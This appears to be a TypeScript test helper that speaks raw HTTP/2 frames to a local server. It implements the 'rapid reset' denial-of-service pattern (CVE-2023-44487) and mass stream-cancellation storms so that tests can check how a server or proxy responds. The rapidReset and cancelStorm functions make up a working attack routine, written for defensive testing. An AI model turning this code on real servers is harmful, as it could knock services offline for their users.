// Test support: a prior-knowledge HTTP/2 client written as raw frames (RFC 9113), for the abuse
// patterns a well-behaved client library will not produce at speed: HEADERS followed at once by
// RST_STREAM ("rapid reset", CVE-2023-44487) in batches, and storms of cancelled streams. It
// reads back just enough (SETTINGS, PING, GOAWAY, RST_STREAM, HEADERS) to report what the
// server did. Header blocks use HPACK literals without indexing, so no dynamic table is needed.
import { connect as tcpConnect, type Socket } from 'node:net'
import { connect as tlsConnect } from 'node:tls'

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1')
const TYPE = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8 } as const
/** RFC 9113 section 7 error codes used here. */
export const H2_ERROR = { NO_ERROR: 0, CANCEL: 8, ENHANCE_YOUR_CALM: 11 } as const

/** What the server sent back so far. */
export interface RawH2Events {
  /** The GOAWAY error code, once one arrived. */
  goaway: number | undefined
  /** Response HEADERS frames received (one per answered stream). */
  responses: number
  /** RST_STREAM frames received from the server. */
  resets: number
  /** True once the connection closed. */
  closed: boolean
}

/** A raw HTTP/2 connection. */
export interface RawH2Client {
  readonly events: RawH2Events
  /**
   * Opens a new stream with a GET (a gRPC-shaped POST when the client was made with `grpc`);
   * `end` false leaves the request body open. Returns the stream id.
   */
  headers (path: string, end?: boolean): number
  /** Sends RST_STREAM(CANCEL) on `id`. */
  reset (id: number): void
  /** Sends a PING; resolves on its ACK, or when the connection closes. */
  ping (): Promise<void>
  /** Resolves once everything written so far reached the socket. */
  flush (): Promise<void>
  /** Resolves when the connection has closed. */
  readonly closed: Promise<void>
  close (): void
}

function frame (type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream & 0x7fffffff, 5)
  return Buffer.concat([head, payload])
}

/**
 * An HPACK "literal header field without indexing, indexed name" (RFC 7541 section 6.2.2): the
 * index is a 4-bit prefix integer (section 5.1), the value a plain string shorter than 127 octets.
 */
function literal (nameIndex: number, value: string): Buffer {
  const v = Buffer.from(value, 'latin1')
  if (v.length > 126 || nameIndex > 15 + 127) throw new Error('too long for this encoder')
  const index = nameIndex < 15 ? [nameIndex] : [15, nameIndex - 15]
  return Buffer.concat([Buffer.from([...index, v.length]), v])
}

/**
 * Connects to `127.0.0.1:port` with the HTTP/2 preface; over TLS when `tls` is set (ALPN h2,
 * the server certificate is not checked: tests only).
 */
export async function rawH2 (port: number, options: { tls?: boolean, authority?: string, grpc?: boolean } = {}): Promise<RawH2Client> {
  const socket: Socket = options.tls === true
    ? tlsConnect({ host: '127.0.0.1', port, ALPNProtocols: ['h2'], rejectUnauthorized: false, servername: 'localhost' })
    : tcpConnect(port, '127.0.0.1')
  await new Promise<void>((resolve, reject) => {
    socket.once(options.tls === true ? 'secureConnect' : 'connect', () => { resolve() })
    socket.once('error', reject)
  })
  const events: RawH2Events = { goaway: undefined, responses: 0, resets: 0, closed: false }
  const pings: Array<() => void> = []
  socket.on('error', () => {})
  const closed = new Promise<void>((resolve) => {
    socket.once('close', () => {
      events.closed = true
      for (const done of pings.splice(0)) done()
      resolve()
    })
  })
  const write = (b: Buffer): void => { if (!socket.destroyed) socket.write(b) }
  // A large connection window so the server's DATA never stalls on us.
  const windowUpdate = Buffer.alloc(4)
  windowUpdate.writeUInt32BE(1 << 30)
  write(Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0)), frame(TYPE.WINDOW_UPDATE, 0, 0, windowUpdate)]))
  let pending: Buffer = Buffer.alloc(0)
  socket.on('data', (chunk: Buffer) => {
    pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk])
    while (pending.length >= 9) {
      const length = pending.readUIntBE(0, 3)
      if (pending.length < 9 + length) break
      const type = pending[3]
      const flags = pending[4] ?? 0
      const payload = pending.subarray(9, 9 + length)
      pending = pending.subarray(9 + length)
      if (type === TYPE.SETTINGS && (flags & 1) === 0) write(frame(TYPE.SETTINGS, 1, 0, Buffer.alloc(0)))
      else if (type === TYPE.PING && (flags & 1) === 0) write(frame(TYPE.PING, 1, 0, Buffer.from(payload)))
      else if (type === TYPE.PING) pings.shift()?.()
      // The first GOAWAY says why; a server may send a second one as it closes.
      else if (type === TYPE.GOAWAY) events.goaway ??= payload.readUInt32BE(4)
      else if (type === TYPE.RST_STREAM) events.resets++
      else if (type === TYPE.HEADERS) events.responses++
    }
  })
  const authority = options.authority ?? 'web.test'
  const scheme = options.tls === true ? 0x87 : 0x86
  let next = 1
  return {
    events,
    closed,
    headers (path, end = true) {
      const id = next
      next += 2
      const block = options.grpc === true
        // POST (static index 3), content-type (31) application/grpc, and te: trailers (a new name).
        ? Buffer.concat([Buffer.from([0x83, scheme]), literal(4, path), literal(1, authority), literal(31, 'application/grpc'),
          Buffer.from([0x00, 2]), Buffer.from('te'), Buffer.from([8]), Buffer.from('trailers')])
        : Buffer.concat([Buffer.from([0x82, scheme]), literal(4, path), literal(1, authority)])
      write(frame(TYPE.HEADERS, 0x4 | (end ? 0x1 : 0), id, block))
      return id
    },
    reset (id) {
      const code = Buffer.alloc(4)
      code.writeUInt32BE(H2_ERROR.CANCEL)
      write(frame(TYPE.RST_STREAM, 0, id, code))
    },
    ping: () => new Promise<void>((resolve) => {
      if (events.closed) { resolve(); return }
      pings.push(resolve)
      write(frame(TYPE.PING, 0, 0, Buffer.alloc(8)))
    }),
    // An empty write's callback never runs on a TLS socket: wait for the buffer to drain instead.
    flush: () => new Promise<void>((resolve) => {
      if (socket.destroyed || !socket.writableNeedDrain) setImmediate(resolve)
      else socket.once('drain', resolve).once('close', resolve)
    }),
    close () { socket.destroy() }
  }
}

/**
 * Rapid reset: sends `batch` HEADERS each followed by its RST_STREAM, then a PING, and repeats
 * once the PING is answered, until the server closes the connection or `maxStreams` were sent.
 * Waiting a round trip per batch keeps the client from writing into a connection the server
 * has closed (the reset that follows would discard the GOAWAY it sent). Returns the count sent.
 */
export async function rapidReset (client: RawH2Client, options: { batch: number, maxStreams: number, path?: string, numbered?: boolean }): Promise<number> {
  let sent = 0
  const path = (n: number): string => options.numbered === false ? options.path ?? '/reset' : `${options.path ?? '/reset'}/${n}`
  while (!client.events.closed && sent < options.maxStreams) {
    for (let i = 0; i < options.batch && sent < options.maxStreams; i++, sent++) client.reset(client.headers(path(sent)))
    await client.ping()
  }
  return sent
}

/**
 * A cancel storm: opens `count` streams at once, lets them reach the proxy (`delayMs`), then
 * resets them all; the connection stays open. Paths are `PATH/N` unless `numbered` is false.
 */
export async function cancelStorm (client: RawH2Client, count: number, delayMs: number, path = '/storm', numbered = true): Promise<void> {
  const ids: number[] = []
  for (let i = 0; i < count; i++) ids.push(client.headers(numbered ? `${path}/${i}` : path))
  await client.flush()
  await new Promise((resolve) => setTimeout(resolve, delayMs))
  for (const id of ids) client.reset(id)
  await client.flush()
}
